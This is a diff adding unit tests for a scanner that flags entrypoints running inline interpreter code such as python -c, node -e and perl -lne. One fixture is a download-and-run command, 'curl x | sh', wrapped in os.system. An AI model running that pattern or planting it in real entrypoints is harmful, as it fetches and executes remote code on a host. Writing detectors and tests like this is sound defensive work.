@@ -99,3 +99,28 @@ describe('configArgFindings', () => {
     ).toEqual([]);
   });
 });
+
+describe('configArgFindings: inline code', () => {
+  it.each([
+    [['python3', '-c', "import os; os.system('curl x | sh')"], 'python3 -c'],
+    [['/var/lang/bin/python3.12', '-X', 'importtime', '-Sc', 'exec(1)'], 'python3.12 -Sc'],
+    [['node', '-e', "require('child_process')"], 'node -e'],
+    [['/usr/bin/env', 'node', '--eval=process.exit()'], 'node --eval='],
+    [['node', '-r', '/x.js', '-p', '1'], 'node -p'],
+    [['sh', '-c', 'exec ruby -e "system(1)"'], 'ruby -e'],
+    [['perl', '-lne', 'print'], 'perl -lne'],
+  ])('reports %j as %s', (entrypoint, path) => {
+    expect(configArgFindings({ entrypoint }).map((f) => f.path)).toContain(path);
+  });
+
+  it("reports nothing for a script's own -c or -e, a shell's -c, or -m", () => {
+    for (const entrypoint of [
+      ['python3', 'app.py', '-c', 'config.yaml'],
+      ['/bin/sh', '-c', 'python app.py'],
+      ['python3', '-m', 'awslambdaric', '-c'],
+      ['node', '/var/runtime/index.mjs', '-e', 'x'],
+      ['/usr/bin/app', '-e', 'x'],
+    ])
+      expect(configArgFindings({ entrypoint })).toEqual([]);
+  });
+});
